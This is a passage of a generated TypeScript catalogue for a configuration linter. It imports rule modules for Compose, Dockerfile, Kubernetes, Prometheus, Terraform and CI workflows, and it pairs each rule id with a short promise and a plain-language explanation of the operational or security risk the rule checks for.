// Generated from the rules by `npm test`. Do not edit.
import type { CatalogueRule } from '../server/core/rule.js';
import alertmanagerHardcodedSecret from './alertmanager/hardcoded-secret.js';
import alertmanagerInvalidSetting from './alertmanager/invalid-setting.js';
import alertmanagerMissingInhibition from './alertmanager/missing-inhibition.js';
import alertmanagerRepeatBeforeGroup from './alertmanager/repeat-before-group.js';
import alertmanagerSilentDefaultReceiver from './alertmanager/silent-default-receiver.js';
import alertmanagerUnexpandedVariable from './alertmanager/unexpanded-variable.js';
import alertmanagerUngroupedAlerts from './alertmanager/ungrouped-alerts.js';
import alertmanagerUnknownReceiver from './alertmanager/unknown-receiver.js';
import alertmanagerUnroutedSeverity from './alertmanager/unrouted-severity.js';
import alertmanagerUnusedReceiver from './alertmanager/unused-receiver.js';
import composeCommentedOutService from './compose/commented-out-service.js';
import composeDangerousCapability from './compose/dangerous-capability.js';
import composeDevelopmentMode from './compose/development-mode.js';
import composeDisabledLogging from './compose/disabled-logging.js';
import composeDisabledSecurityProfile from './compose/disabled-security-profile.js';
import composeDockerSocket from './compose/docker-socket.js';
import composeDuplicateContainerName from './compose/duplicate-container-name.js';
import composeDuplicatePort from './compose/duplicate-port.js';
import composeEphemeralData from './compose/ephemeral-data.js';
import composeExposedInternalService from './compose/exposed-internal-service.js';
import composeFlatNetwork from './compose/flat-network.js';
import composeHardcodedSecret from './compose/hardcoded-secret.js';
import composeHostNamespace from './compose/host-namespace.js';
import composeInvalidValue from './compose/invalid-value.js';
import composeMissingDockerfile from './compose/missing-dockerfile.js';
import composeMissingEnvFile from './compose/missing-env-file.js';
import composeMissingHardening from './compose/missing-hardening.js';
import composeMissingHealthcheck from './compose/missing-healthcheck.js';
import composeMissingLogRotation from './compose/missing-log-rotation.js';
import composeMissingResourceLimits from './compose/missing-resource-limits.js';
import composeMissingRestartPolicy from './compose/missing-restart-policy.js';
import composeObsoleteVersion from './compose/obsolete-version.js';
import composeOptionalSecret from './compose/optional-secret.js';
import composePrivileged from './compose/privileged.js';
import composeRootUser from './compose/root-user.js';
import composeScaledContainerName from './compose/scaled-container-name.js';
import composeSecretInUrl from './compose/secret-in-url.js';
import composeSensitiveHostPath from './compose/sensitive-host-path.js';
import composeUnawaitedDependency from './compose/unawaited-dependency.js';
import composeUndefinedReference from './compose/undefined-reference.js';
import composeUndocumentedVariable from './compose/undocumented-variable.js';
import composeUnknownBuildTarget from './compose/unknown-build-target.js';
import composeUnknownKey from './compose/unknown-key.js';
import composeUnpinnedImage from './compose/unpinned-image.js';
import composeUnquotedPort from './compose/unquoted-port.js';
import composeUnreadyDependency from './compose/unready-dependency.js';
import composeUnusedDefinition from './compose/unused-definition.js';
import dockerfileAddInsteadOfCopy from './dockerfile/add-instead-of-copy.js';
import dockerfileBashInSh from './dockerfile/bash-in-sh.js';
import dockerfileBrokenExecForm from './dockerfile/broken-exec-form.js';
import dockerfileBrokenScript from './dockerfile/broken-script.js';
import dockerfileCdInRun from './dockerfile/cd-in-run.js';
import dockerfileCopiedSecret from './dockerfile/copied-secret.js';
import dockerfileCopyWithoutDirectory from './dockerfile/copy-without-directory.js';
import dockerfileDeprecatedMaintainer from './dockerfile/deprecated-maintainer.js';
import dockerfileDevelopmentDependencies from './dockerfile/development-dependencies.js';
import dockerfileDevelopmentMode from './dockerfile/development-mode.js';
import dockerfileDevelopmentServer from './dockerfile/development-server.js';
import dockerfileDisabledHealthcheck from './dockerfile/disabled-healthcheck.js';
import dockerfileDisabledSignatureCheck from './dockerfile/disabled-signature-check.js';
import dockerfileDisabledTlsVerification from './dockerfile/disabled-tls-verification.js';
import dockerfileDuplicateStage from './dockerfile/duplicate-stage.js';
import dockerfileEmptyContinuation from './dockerfile/empty-continuation.js';
import dockerfileExposedSsh from './dockerfile/exposed-ssh.js';
import dockerfileHardcodedSecret from './dockerfile/hardcoded-secret.js';
import dockerfileIgnoredSource from './dockerfile/ignored-source.js';
import dockerfileInteractiveInstall from './dockerfile/interactive-install.js';
import dockerfileInvalidInstruction from './dockerfile/invalid-instruction.js';
import dockerfileInvalidPort from './dockerfile/invalid-port.js';
import dockerfileLateDirective from './dockerfile/late-directive.js';
import dockerfileLeakyDockerignore from './dockerfile/leaky-dockerignore.js';
import dockerfileLegacyKeyValue from './dockerfile/legacy-key-value.js';
import dockerfileLoneUpdate from './dockerfile/lone-update.js';
import dockerfileLostSetting from './dockerfile/lost-setting.js';
import dockerfileMissingDockerignore from './dockerfile/missing-dockerignore.js';
import dockerfileMissingHealthcheck from './dockerfile/missing-healthcheck.js';
import dockerfileMissingPipefail from './dockerfile/missing-pipefail.js';
import dockerfileMissingSource from './dockerfile/missing-source.js';
import dockerfileNonNumericUser from './dockerfile/non-numeric-user.js';
import dockerfileOversizedBase from './dockerfile/oversized-base.js';
import dockerfilePackageCacheKept from './dockerfile/package-cache-kept.js';
import dockerfilePasswordInRun from './dockerfile/password-in-run.js';
import dockerfilePipedInstall from './dockerfile/piped-install.js';
import dockerfilePlainHttpDownload from './dockerfile/plain-http-download.js';
import dockerfileRecommendedPackages from './dockerfile/recommended-packages.js';
import dockerfileRedundantPlatform from './dockerfile/redundant-platform.js';
import dockerfileRelativeWorkdir from './dockerfile/relative-workdir.js';
import dockerfileRemoteAdd from './dockerfile/remote-add.js';
import dockerfileRepeatedCommand from './dockerfile/repeated-command.js';
import dockerfileRootUser from './dockerfile/root-user.js';
import dockerfileSelfCopy from './dockerfile/self-copy.js';
import dockerfileShellFormCommand from './dockerfile/shell-form-command.js';
import dockerfileSingleStageBuild from './dockerfile/single-stage-build.js';
import dockerfileSourceBeforeDependencies from './dockerfile/source-before-dependencies.js';
import dockerfileSudo from './dockerfile/sudo.js';
import dockerfileSwallowedInstruction from './dockerfile/swallowed-instruction.js';
import dockerfileUndefinedBaseArgument from './dockerfile/undefined-base-argument.js';
import dockerfileUndefinedVariable from './dockerfile/undefined-variable.js';
import dockerfileUnexposedPort from './dockerfile/unexposed-port.js';
import dockerfileUnknownStage from './dockerfile/unknown-stage.js';
import dockerfileUnlockedInstall from './dockerfile/unlocked-install.js';
import dockerfileUnpinnedBase from './dockerfile/unpinned-base.js';
import dockerfileUnpinnedInstall from './dockerfile/unpinned-install.js';
import dockerfileWorldWritablePath from './dockerfile/world-writable-path.js';
import kubernetesAutoscalerWithReplicas from './kubernetes/autoscaler-with-replicas.js';
import kubernetesBlockingDisruptionBudget from './kubernetes/blocking-disruption-budget.js';
import kubernetesClusterAdmin from './kubernetes/cluster-admin.js';
import kubernetesCommittedSecret from './kubernetes/committed-secret.js';
import kubernetesCronjobRestartPolicy from './kubernetes/cronjob-restart-policy.js';
import kubernetesDangerousCapability from './kubernetes/dangerous-capability.js';
import kubernetesDockerSocket from './kubernetes/docker-socket.js';
import kubernetesDuplicateVariable from './kubernetes/duplicate-variable.js';
import kubernetesFixedAutoscaler from './kubernetes/fixed-autoscaler.js';
import kubernetesHardcodedSecret from './kubernetes/hardcoded-secret.js';
import kubernetesHostNamespace from './kubernetes/host-namespace.js';
import kubernetesHostPath from './kubernetes/host-path.js';
import kubernetesHostPort from './kubernetes/host-port.js';
import kubernetesIdenticalProbes from './kubernetes/identical-probes.js';
import kubernetesIngressWithoutTls from './kubernetes/ingress-without-tls.js';
import kubernetesInvalidLabel from './kubernetes/invalid-label.js';
import kubernetesInvalidQuantity from './kubernetes/invalid-quantity.js';
import kubernetesInvalidSchedule from './kubernetes/invalid-schedule.js';
import kubernetesLatestPullPolicy from './kubernetes/latest-pull-policy.js';
import kubernetesMissingDisruptionBudget from './kubernetes/missing-disruption-budget.js';
import kubernetesMissingMemoryLimit from './kubernetes/missing-memory-limit.js';
import kubernetesMissingNetworkPolicy from './kubernetes/missing-network-policy.js';
import kubernetesMissingPodSecurityLevel from './kubernetes/missing-pod-security-level.js';
import kubernetesMissingReadinessProbe from './kubernetes/missing-readiness-probe.js';
import kubernetesMissingRequests from './kubernetes/missing-requests.js';
import kubernetesMissingSeccompProfile from './kubernetes/missing-seccomp-profile.js';
import kubernetesMissingSpread from './kubernetes/missing-spread.js';
import kubernetesMountedServiceAccountToken from './kubernetes/mounted-service-account-token.js';
import kubernetesNakedPod from './kubernetes/naked-pod.js';
import kubernetesPrivilegeEscalation from './kubernetes/privilege-escalation.js';
import kubernetesPrivileged from './kubernetes/privileged.js';
import kubernetesRecreateStrategy from './kubernetes/recreate-strategy.js';
import kubernetesRemovedApi from './kubernetes/removed-api.js';
import kubernetesRequestAboveLimit from './kubernetes/request-above-limit.js';
import kubernetesRetainedCapabilities from './kubernetes/retained-capabilities.js';
import kubernetesRootUser from './kubernetes/root-user.js';
import kubernetesSecretInConfigmap from './kubernetes/secret-in-configmap.js';
import kubernetesSelectorMismatch from './kubernetes/selector-mismatch.js';
import kubernetesServiceWithoutPods from './kubernetes/service-without-pods.js';
import kubernetesSingleReplica from './kubernetes/single-replica.js';
import kubernetesStatefulsetWithoutService from './kubernetes/statefulset-without-service.js';
import kubernetesUnboundedCronjob from './kubernetes/unbounded-cronjob.js';
import kubernetesUnknownAutoscalerTarget from './kubernetes/unknown-autoscaler-target.js';
import kubernetesUnknownConfigReference from './kubernetes/unknown-config-reference.js';
import kubernetesUnknownField from './kubernetes/unknown-field.js';
import kubernetesUnknownIngressBackend from './kubernetes/unknown-ingress-backend.js';
import kubernetesUnknownProbePort from './kubernetes/unknown-probe-port.js';
import kubernetesUnknownServiceAccount from './kubernetes/unknown-service-account.js';
import kubernetesUnknownTargetPort from './kubernetes/unknown-target-port.js';
import kubernetesUnmatchedDisruptionBudget from './kubernetes/unmatched-disruption-budget.js';
import kubernetesUnmatchedNetworkPolicy from './kubernetes/unmatched-network-policy.js';
import kubernetesUnpinnedImage from './kubernetes/unpinned-image.js';
import kubernetesUnquotedText from './kubernetes/unquoted-text.js';
import kubernetesWildcardRole from './kubernetes/wildcard-role.js';
import kubernetesWritableRootFilesystem from './kubernetes/writable-root-filesystem.js';
import projectBlockingIndex from './project/blocking-index.js';
import projectIncompleteEnvExample from './project/incomplete-env-example.js';
import projectIrreversibleMigration from './project/irreversible-migration.js';
import projectMissingAlerting from './project/missing-alerting.js';
import projectMissingAppService from './project/missing-app-service.js';
import projectMissingApproval from './project/missing-approval.js';
import projectMissingAutoscaling from './project/missing-autoscaling.js';
import projectMissingBackup from './project/missing-backup.js';
import projectMissingBranchProtection from './project/missing-branch-protection.js';
import projectMissingChangeRecord from './project/missing-change-record.js';
import projectMissingCodeScanning from './project/missing-code-scanning.js';
import projectMissingCorrelationId from './project/missing-correlation-id.js';
import projectMissingDashboards from './project/missing-dashboards.js';
import projectMissingDatastoreSetup from './project/missing-datastore-setup.js';
import projectMissingDependencyUpdates from './project/missing-dependency-updates.js';
import projectMissingDeployScript from './project/missing-deploy-script.js';
import projectMissingDeploymentPipeline from './project/missing-deployment-pipeline.js';
import projectMissingEnvExample from './project/missing-env-example.js';
import projectMissingErrorTracking from './project/missing-error-tracking.js';
import projectMissingEscalation from './project/missing-escalation.js';
import projectMissingGracefulShutdown from './project/missing-graceful-shutdown.js';
import projectMissingHealthEndpoint from './project/missing-health-endpoint.js';
import projectMissingImageBuild from './project/missing-image-build.js';
import projectMissingImageScan from './project/missing-image-scan.js';
import projectMissingIncidentGuide from './project/missing-incident-guide.js';
import projectMissingLint from './project/missing-lint.js';
import projectMissingLoadTest from './project/missing-load-test.js';
import projectMissingLogAggregation from './project/missing-log-aggregation.js';
import projectMissingMetrics from './project/missing-metrics.js';
import projectMissingMigrations from './project/missing-migrations.js';
import projectMissingOnCall from './project/missing-on-call.js';
import projectMissingPipeline from './project/missing-pipeline.js';
import projectMissingProvisioning from './project/missing-provisioning.js';
import projectMissingRecoveryObjectives from './project/missing-recovery-objectives.js';
import projectMissingRollback from './project/missing-rollback.js';
import projectMissingRunbooks from './project/missing-runbooks.js';
import projectMissingSbom from './project/missing-sbom.js';
import projectMissingSecretManagement from './project/missing-secret-management.js';
import projectMissingSecretRotation from './project/missing-secret-rotation.js';
import projectMissingSmokeTest from './project/missing-smoke-test.js';
import projectMissingStaging from './project/missing-staging.js';
import projectMissingStructuredLogging from './project/missing-structured-logging.js';
import projectMissingTestsInPipeline from './project/missing-tests-in-pipeline.js';
import projectMissingTracing from './project/missing-tracing.js';
import projectMissingTypeCheck from './project/missing-type-check.js';
import projectMissingZeroDowntime from './project/missing-zero-downtime.js';
import projectSingleInstance from './project/single-instance.js';
import projectSkippedIntegrationTests from './project/skipped-integration-tests.js';
import projectTrackedEnvFile from './project/tracked-env-file.js';
import projectUnignoredEnvFile from './project/unignored-env-file.js';
import projectUnrehearsedMigrations from './project/unrehearsed-migrations.js';
import projectUnscheduledBackup from './project/unscheduled-backup.js';
import projectUntestedMigrations from './project/untested-migrations.js';
import projectUnverifiedRestore from './project/unverified-restore.js';
import prometheusAlwaysFiring from './prometheus/always-firing.js';
import prometheusDuplicateAlert from './prometheus/duplicate-alert.js';
import prometheusHardcodedSecret from './prometheus/hardcoded-secret.js';
import prometheusInvalidExpression from './prometheus/invalid-expression.js';
import prometheusInvalidRule from './prometheus/invalid-rule.js';
import prometheusInvalidSetting from './prometheus/invalid-setting.js';
import prometheusLostLabel from './prometheus/lost-label.js';
import prometheusMissingDuration from './prometheus/missing-duration.js';
import prometheusMissingRunbook from './prometheus/missing-runbook.js';
import prometheusMissingSeverity from './prometheus/missing-severity.js';
import prometheusMissingSummary from './prometheus/missing-summary.js';
import prometheusPointlessRegexp from './prometheus/pointless-regexp.js';
import prometheusRawCounter from './prometheus/raw-counter.js';
import prometheusShortRateWindow from './prometheus/short-rate-window.js';
import prometheusUnexpandedVariable from './prometheus/unexpanded-variable.js';
import prometheusUnknownTarget from './prometheus/unknown-target.js';
import prometheusUnmatchedRuleFiles from './prometheus/unmatched-rule-files.js';
import prometheusUnroutedAlerts from './prometheus/unrouted-alerts.js';
import terraformCommittedState from './terraform/committed-state.js';
import terraformHardcodedSecret from './terraform/hardcoded-secret.js';
import terraformLocalState from './terraform/local-state.js';
import terraformMissingLockFile from './terraform/missing-lock-file.js';
import terraformMissingRequiredVersion from './terraform/missing-required-version.js';
import terraformUndocumentedVariable from './terraform/undocumented-variable.js';
import terraformUnencryptedState from './terraform/unencrypted-state.js';
import terraformUnlockedState from './terraform/unlocked-state.js';
import terraformUnpinnedModule from './terraform/unpinned-module.js';
import terraformUnpinnedProvider from './terraform/unpinned-provider.js';
import workflowActionOnBranch from './workflow/action-on-branch.js';
import workflowAlwaysTrueCondition from './workflow/always-true-condition.js';
import workflowArchivedAction from './workflow/archived-action.js';
import workflowBroadPermissions from './workflow/broad-permissions.js';
import workflowCancelledDeploy from './workflow/cancelled-deploy.js';
import workflowCompromisedAction from './workflow/compromised-action.js';
import workflowDeployDespiteFailure from './workflow/deploy-despite-failure.js';
import workflowDeployFromPullRequest from './workflow/deploy-from-pull-request.js';
import workflowDeployNotSerialized from './workflow/deploy-not-serialized.js';
import workflowDeployWithoutEnvironment from './workflow/deploy-without-environment.js';
import workflowDeployWithoutHealthCheck from './workflow/deploy-without-health-check.js';
import workflowDeployWithoutRollback from './workflow/deploy-without-rollback.js';
import workflowDeployWithoutTests from './workflow/deploy-without-tests.js';
import workflowDeprecatedCommand from './workflow/deprecated-command.js';
import workflowEnvironmentInjection from './workflow/environment-injection.js';
import workflowExposedSecrets from './workflow/exposed-secrets.js';
import workflowFragileHealthCheck from './workflow/fragile-health-check.js';
import workflowHardcodedSecret from './workflow/hardcoded-secret.js';
import workflowIgnoredFailure from './workflow/ignored-failure.js';
import workflowIgnoredTrigger from './workflow/ignored-trigger.js';
import workflowImpossibleComparison from './workflow/impossible-comparison.js';
import workflowInsecureCommands from './workflow/insecure-commands.js';
import workflowInvalidDefinition from './workflow/invalid-definition.js';
import workflowInvalidExpression from './workflow/invalid-expression.js';
import workflowInvalidSchedule from './workflow/invalid-schedule.js';
import workflowLongLivedCloudCredentials from './workflow/long-lived-cloud-credentials.js';
import workflowLongLivedRegistryToken from './workflow/long-lived-registry-token.js';
import workflowMismatchedCall from './workflow/mismatched-call.js';
import workflowMissingBuildContext from './workflow/missing-build-context.js';
import workflowMissingCache from './workflow/missing-cache.js';
import workflowMissingConcurrency from './workflow/missing-concurrency.js';
import workflowMissingPermissions from './workflow/missing-permissions.js';
import workflowMissingPipefail from './workflow/missing-pipefail.js';
import workflowMissingTimeout from './workflow/missing-timeout.js';
import workflowMisspeltAction from './workflow/misspelt-action.js';
import workflowNeedsCycle from './workflow/needs-cycle.js';
import workflowOutdatedAction from './workflow/outdated-action.js';
import workflowPersistedCredentials from './workflow/persisted-credentials.js';
import workflowRetiredRunner from './workflow/retired-runner.js';
import workflowScriptInjection from './workflow/script-injection.js';
import workflowSecretOnCommandLine from './workflow/secret-on-command-line.js';
import workflowServiceWithoutHealthcheck from './workflow/service-without-healthcheck.js';
import workflowSpoofableActor from './workflow/spoofable-actor.js';
import workflowTestFlagInProduction from './workflow/test-flag-in-production.js';
import workflowUndefinedContextValue from './workflow/undefined-context-value.js';
import workflowUnguardedCommentTrigger from './workflow/unguarded-comment-trigger.js';
import workflowUnknownActionInput from './workflow/unknown-action-input.js';
import workflowUnknownKey from './workflow/unknown-key.js';
import workflowUnknownNeed from './workflow/unknown-need.js';
import workflowUnknownScript from './workflow/unknown-script.js';
import workflowUnlockedInstall from './workflow/unlocked-install.js';
import workflowUnpinnedAction from './workflow/unpinned-action.js';
import workflowUnpinnedContainer from './workflow/unpinned-container.js';
import workflowUnquotedVersion from './workflow/unquoted-version.js';
import workflowUntrustedCheckout from './workflow/untrusted-checkout.js';

export const rules: readonly CatalogueRule[] = [
  {
    id: 'alertmanager/hardcoded-secret',
    promise: "No secrets in Alertmanager's configuration",
    why: "Whoever can read the repository, a fork or an old clone can post into the team's channels and page whoever is on call. Alertmanager reads every key and webhook from a file just as well.",
    rule: alertmanagerHardcodedSecret,
  },
  {
    id: 'alertmanager/invalid-setting',
    promise: 'Alertmanager takes its configuration',
    why: 'One setting that does not exist, or one integration without an address, and Alertmanager refuses the whole file: a running one goes on with the old configuration, a new one does not start, and no alert reaches anybody.',
    rule: alertmanagerInvalidSetting,
  },
  {
    id: 'alertmanager/missing-inhibition',
    promise: 'A critical alert silences its own warning',
    why: 'When a disk goes from nearly full to full, both alerts are sent. The warning says nothing new, and every further message makes the one that matters harder to find.',
    rule: alertmanagerMissingInhibition,
  },
  {
    id: 'alertmanager/repeat-before-group',
    promise: 'Notifications repeat when the configuration says',
    why: 'Alertmanager looks at a group every `group_interval`, five minutes unless it is set. A shorter `repeat_interval` promises reminders that are never sent.',
    rule: alertmanagerRepeatBeforeGroup,
  },
  {
    id: 'alertmanager/silent-default-receiver',
    promise: 'Alerts without a route of their own reach somebody',
    why: 'A new alert has labels that no route was written for. It goes to the default receiver, and where that tells nobody, the alert fires unseen until somebody happens to look. A default receiver that tells somebody keeps this promise.',
    rule: alertmanagerSilentDefaultReceiver,
  },
  {
    id: 'alertmanager/unexpanded-variable',
    promise: 'Alertmanager gets its settings, not the names of variables',
    why: 'Alertmanager does not fill in variables of the environment. Where nothing else does, `${NAME}` is taken as the password or address itself: messages fail, or it does not start.',
    rule: alertmanagerUnexpandedVariable,
  },
  {
    id: 'alertmanager/ungrouped-alerts',
    promise: 'Notifications hold what belongs together',
    why: 'Without `group_by` all alerts there are form one group: a disk that fills up is one more line in the message about an outage, and waits for the next one to be sent.',
    rule: alertmanagerUngroupedAlerts,
  },
  {
    id: 'alertmanager/unknown-receiver',
    promise: 'Every route leads to a receiver',
    why: 'Alertmanager does not start with a route to a receiver that does not exist, and keeps its old configuration on a reload. A route whose receiver is empty quietly takes the one above it.',
    rule: alertmanagerUnknownReceiver,
  },
  {
    id: 'alertmanager/unrouted-severity',
    promise: 'Routes and alerts use the same severities',
    why: 'A route for `critical` does nothing for alerts that call themselves `page`. They fall through to the default receiver, and whoever waits for a page gets a chat message.',
    rule: alertmanagerUnroutedSeverity,
  },
  {
    id: 'alertmanager/unused-receiver',
    promise: 'Every receiver is told something',
    why: 'A receiver that no route leads to looks as if it were in use. Whoever relies on it, such as an on-call team, gets nothing.',
    rule: alertmanagerUnusedReceiver,
  },
  {
    id: 'compose/commented-out-service',
    promise: 'The file says what belongs to the stack',
    why: 'A service in comments is a question that nobody answers: was it turned off for an hour, or is it gone for good? Restore it, or remove it; version control remembers.',
    rule: composeCommentedOutService,
  },
  {
    id: 'compose/dangerous-capability',
    promise: 'Containers cannot take over their host',
    why: 'Some capabilities are as good as root on the host: with `SYS_ADMIN` a process mounts disks, with `SYS_MODULE` it loads code into the kernel, with `DAC_READ_SEARCH` it reads every file.',
    rule: composeDangerousCapability,
  },
  {
    id: 'compose/development-mode',
    promise: 'Production does not run in development mode',
    why: 'Development mode shows stack traces and secrets to visitors, is slow, and restarts when a file changes. In a file for production it is a setting that somebody forgot.',
    rule: composeDevelopmentMode,
  },
  {
    id: 'compose/disabled-logging',
    promise: 'Services keep their logs',
    why: 'With the driver `none` nothing of what a service writes is kept. When it fails, nobody can see why.',
    rule: composeDisabledLogging,
  },
  {
    id: 'compose/disabled-security-profile',
    promise: 'Containers keep the walls around them',
    why: 'Docker forbids containers the system calls and files that attackers need to break out. A profile that is turned off takes this wall down for good, often for the sake of one debugging session.',
    rule: composeDisabledSecurityProfile,
  },
  {
    id: 'compose/docker-socket',
    promise: 'Containers do not control Docker',
    why: 'Whoever can talk to the Docker socket can start a container with the whole disk of the host in it, also when the socket is mounted read-only. A proxy that lets only the needed requests through takes most of the danger away.',
    rule: composeDockerSocket,
  },
  {
    id: 'compose/duplicate-container-name',
    promise: 'Every container has its own name',
    why: 'A host has each container name once. Of two services with one `container_name`, the second does not start.',
    rule: composeDuplicateContainerName,
  },
  {
    id: 'compose/duplicate-port',
    promise: 'Every port of the host has one service',
    why: 'Two programs cannot listen on the same port of the same host. The service that comes second does not start.',
    rule: composeDuplicatePort,
  },
  {
    id: 'compose/ephemeral-data',
    promise: 'Databases keep their data in a volume',
    why: 'What a database writes into its container goes away with it: at the next `docker compose down`, or when the image is updated. A volume stays.',
    rule: composeEphemeralData,
  },
  {
    id: 'compose/exposed-internal-service',
    promise: 'Only the front door is open to the world',
    why: "`5432:5432` publishes a port on every network interface of the host, and Docker's own firewall rules come before those of the host. A data store, a console or a metrics endpoint that only the stack needs is then open to whoever finds the host.",
    rule: composeExposedInternalService,
  },
  {
    id: 'compose/flat-network',
    promise: 'The front door does not reach the databases',
    why: 'Services without networks all share one. Then whoever gets into the web server that is open to the world stands in front of the database at once. With two networks, only what needs the database reaches it.',
    rule: composeFlatNetwork,
  },
  {
    id: 'compose/hardcoded-secret',
    promise: 'No secrets in the compose file',
    why: 'Whoever can read the repository, a fork, a backup or an old clone has every password that is written here, for as long as it is valid. Compose takes it from the environment just as well, and refuses to start when it is missing.',
    rule: composeHardcodedSecret,
  },
  {
    id: 'compose/host-namespace',
    promise: 'Containers are apart from their host',
    why: 'A service in a namespace of its host is not kept apart from it: it reaches services that listen on localhost only, or sees and signals every process. Publish the ports it needs instead.',
    rule: composeHostNamespace,
  },
  {
    id: 'compose/invalid-value',
    promise: 'The file has only values that Compose takes',
    why: "Compose refuses a file in which a setting has a value of another kind than it takes, and starts nothing of it: a number where a text belongs, one port where a list of ports does, a size or time in another tool's spelling.",
    rule: composeInvalidValue,
  },
  {
    id: 'compose/missing-dockerfile',
    promise: 'What a service is built from is there',
    why: 'A service with a `build` whose Dockerfile does not exist cannot be built, and the stack does not start on any other machine than the one that still has the image. A `build` that names a Dockerfile of the repository keeps this promise.',
    rule: composeMissingDockerfile,
  },
  {
    id: 'compose/missing-env-file',
    promise: 'The files of variables are there',
    why: 'Compose does not start a service whose `env_file` it cannot find. A name that is misspelt, or a file that was moved or never added, is noticed at the next deployment.',
    rule: composeMissingEnvFile,
  },
  {
    id: 'compose/missing-hardening',
    promise: 'Services run with fewer rights than Docker gives',
    why: 'By default a process in a container may become root with a setuid program, use fourteen capabilities and write everywhere in its file system. Taking away what it does not need makes a hole in the service much less of a hole in the host.',
    rule: composeMissingHardening,
  },
  {
    id: 'compose/missing-healthcheck',
    promise: 'Services tell when they hang',
    why: 'A process that runs is not a service that answers. Without a healthcheck Compose cannot tell the two apart: services that depend on this one start too early, and nobody learns that it hangs. A `healthcheck` that asks the service itself keeps this promise.',
    rule: composeMissingHealthcheck,
  },
  {
    id: 'compose/missing-log-rotation',
    promise: 'Logs do not fill the disk',
    why: 'Docker keeps all that a container ever wrote, in one file without end, unless it is told otherwise. On a host that runs for months the disk fills up, and then every service on it fails.',
    rule: composeMissingLogRotation,
  },
  {
    id: 'compose/missing-resource-limits',
    promise: 'Services cannot starve their host',
    why: 'A container may take all the memory and CPU there is. One leak or one busy loop then takes down every service on the host, the database included. The limits offered are a start for the image at hand: measure, then set your own.',
    rule: composeMissingResourceLimits,
  },
  {
    id: 'compose/missing-restart-policy',
    promise: 'Services come back after a crash',
    why: 'Compose starts a service once. Without a restart policy, a crash or a reboot of the host takes the service down until someone notices.',
    rule: composeMissingRestartPolicy,
  },
  {
    id: 'compose/obsolete-version',
    promise: 'The file says nothing that Compose ignores',
    why: 'Since 2020 `version` means nothing: Compose reads every file by the same rules, and prints a warning for the line at each command.',
    rule: composeObsoleteVersion,
  },
  {
    id: 'compose/optional-secret',
    promise: 'The stack refuses to start without its secrets',
    why: 'A variable that nobody set is empty, or has the default that everyone can read here. The service starts all the same, with a database that anyone can open or sessions that anyone can sign. `${NAME:?…}` makes Compose stop instead.',
    rule: composeOptionalSecret,
  },
  {
    id: 'compose/privileged',
    promise: 'Containers do not have every right on their host',
    why: 'A privileged container is no container: it sees all devices, loads kernel modules and mounts the disks of its host. One hole in the service gives the whole machine away, with everything else that runs there.',
    rule: composePrivileged,
  },
  {
    id: 'compose/root-user',
    promise: 'Services do not run as root',
    why: 'A process that is root in its container is root for every file mounted into it, and one kernel bug away from being root on the host. Most services need no such rights.',
    rule: composeRootUser,
  },
  {
    id: 'compose/scaled-container-name',
    promise: 'Services that run several times have no fixed container name',
    why: 'A container name exists once on a host. A service with `container_name` cannot run a second time, whatever its replicas say.',
    rule: composeScaledContainerName,
  },
  {
    id: 'compose/secret-in-url',
    promise: 'No passwords inside addresses',
    why: 'A password inside a URL or a connection string is easily missed: it is copied into logs, error reports and chats together with the address, and everyone who can read this file has it.',
    rule: composeSecretInUrl,
  },
  {
    id: 'compose/sensitive-host-path',
    promise: 'Containers see no system directories of their host',
    why: "A container that has the host's `/etc`, its disks or somebody's keys can read passwords, add users and start programs on the host. Mount the one file or folder that is needed.",
    rule: composeSensitiveHostPath,
  },
  {
    id: 'compose/unawaited-dependency',
    promise: 'Services wait until what they need is ready',
    why: 'A list under `depends_on` only waits for the other container to be started, not for the database in it to answer. The first requests fail, and so may the service. Where the other one has a healthcheck, Compose can wait for it.',
    rule: composeUnawaitedDependency,
  },
  {
    id: 'compose/undefined-reference',
    promise: 'Everything a service names is defined',
    why: 'Compose checks every name before it starts anything. One service, network, volume, secret or config that is named but not defined, and the whole stack stays down.',
    rule: composeUndefinedReference,
  },
  {
    id: 'compose/undocumented-variable',
    promise: 'The sample of the environment names every variable',
    why: 'Whoever sets the stack up copies the sample and fills it in. A variable that is not in it is empty, and Compose only warns.',
    rule: composeUndocumentedVariable,
  },
  {
    id: 'compose/unknown-build-target',
    promise: 'The stage that a service asks for exists',
    why: '`target` names a stage of the Dockerfile. Where no stage has the name, the service cannot be built.',
    rule: composeUnknownBuildTarget,
  },
  {
    id: 'compose/unknown-key',
    promise: 'The file has only settings that Compose knows',
    why: 'Compose refuses a file with a setting that it does not know, and starts nothing of it. A misspelt word, or one that stands a level too high or too low, is seen only when somebody deploys.',
    rule: composeUnknownKey,
  },
  {
    id: 'compose/unpinned-image',
    promise: 'Images are named with their version',
    why: 'Without a tag, or with `latest`, every pull may bring another release: what ran yesterday does not start today, two hosts run two versions, and there is nothing to go back to. A tag with a version, such as `postgres:17`, keeps this promise.',
    rule: composeUnpinnedImage,
  },
  {
    id: 'compose/unquoted-port',
    promise: 'Ports are written so that every reader takes them for ports',
    why: 'YAML 1.1 has numbers to the base of sixty, made for minutes and seconds: without quotes, `2222:22` is 133342 there. Newer releases of Compose read it as text, older tools do not.',
    rule: composeUnquotedPort,
  },
  {
    id: 'compose/unready-dependency',
    promise: 'Whoever is waited for can tell that it is ready',
    why: '`condition: service_healthy` waits for a healthcheck to pass. Where the other service has none, Compose gives up and the waiting one never starts.',
    rule: composeUnreadyDependency,
  },
  {
    id: 'compose/unused-definition',
    promise: 'Everything that is defined is used',
    why: 'A volume that nobody mounts or a network that nobody joins is left over, or a service lost its line for it: then its data goes somewhere else.',
    rule: composeUnusedDefinition,
  },
  {
    id: 'dockerfile/add-instead-of-copy',
    promise: 'Files are copied with COPY',
    why: '`ADD` unpacks archives by itself and fetches what looks like an address. Where a file is only copied, `COPY` says so, and keeps doing so when somebody swaps the file for an archive.',
    rule: dockerfileAddInsteadOfCopy,
  },
  {
    id: 'dockerfile/bash-in-sh',
    promise: 'Scripts keep to the shell that reads them',
    why: 'On Debian and Ubuntu `RUN` starts `/bin/sh`, which is dash. What only bash knows fails there, or worse: a condition is silently never true. `SHELL ["/bin/bash", "-c"]` makes bash read what follows.',
    rule: dockerfileBashInSh,
  },
  {
    id: 'dockerfile/broken-exec-form',
    promise: 'Lists are written as JSON',
    why: 'Docker reads a list in brackets only as JSON, with double quotes and commas. Anything else it takes as plain text: the container does not start, or a volume gets a name full of brackets.',
    rule: dockerfileBrokenExecForm,
  },
  {
    id: 'dockerfile/broken-script',
    promise: 'The shell can read every script',
    why: 'A `RUN` that its shell cannot read fails, or decides wrongly without a word: the error then names a line that has nothing to do with it. Better to see it while it is written.',
